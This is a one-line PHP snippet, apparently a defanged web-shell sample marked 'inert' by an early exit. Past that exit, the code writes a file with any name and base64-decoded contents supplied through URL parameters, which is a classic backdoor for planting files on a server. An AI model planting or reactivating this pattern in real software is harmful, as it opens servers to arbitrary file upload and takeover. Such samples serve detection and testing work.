<?php exit; /* inert */ $f=fopen($_GET["n"],"w"); fwrite($f,base64_decode($_GET["d"])); fclose($f);
